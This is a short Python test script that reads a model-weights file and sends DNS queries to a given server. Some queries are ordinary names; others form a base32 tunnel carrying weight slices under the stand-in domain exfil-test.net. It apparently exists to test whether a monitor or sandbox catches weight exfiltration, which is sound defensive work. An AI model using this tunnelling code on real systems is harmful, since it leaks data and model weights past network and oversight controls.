#!/usr/bin/env python3
"""A job that loaded the weights (read the file: tainted), then resolves
names through a DNS server: ordinary names of a cloud/k8s host, or a tunnel
carrying the weights in its query names (base32 labels, as iodine does).

    dns_job.py --weights FILE --server ADDR [--port 53] (--names N | --tunnel N)

Each query waits up to 1 s for its answer. Prints {"sent", "answered"};
exits 0 when every query was answered, 1 otherwise, 3 if a send failed.
"""
import argparse
import base64
import json
import os
import random
import socket
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import corpus  # noqa: E402


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--weights", required=True)
    ap.add_argument("--server", required=True)
    ap.add_argument("--port", type=int, default=53)
    ap.add_argument("--names", type=int, default=0)
    ap.add_argument("--tunnel", type=int, default=0)
    args = ap.parse_args()
    with open(args.weights, "rb") as f:
        weights = f.read()
    rng = random.Random(53)
    fam = socket.AF_INET6 if ":" in args.server else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    sent = answered = 0
    for i in range(args.names + args.tunnel):
        if i < args.names:
            name = corpus.normal_name(rng)
        else:
            off = (i * 150) % (len(weights) - 150)
            data = base64.b32encode(weights[off:off + 150]).decode().rstrip("=").lower()
            name = ".".join([data[:63], data[63:126], data[126:189], "t", "exfil-test.net"])
        try:
            s.sendto(corpus.dns_query(rng, name), (args.server, args.port))
        except OSError as e:
            print(json.dumps({"sent": sent, "answered": answered, "error": e.strerror}))
            return 3
        sent += 1
        try:
            s.recvfrom(4096)
            answered += 1
        except socket.timeout:
            pass
    print(json.dumps({"sent": sent, "answered": answered}))
    return 0 if answered == sent else 1


if __name__ == "__main__":
    sys.exit(main())
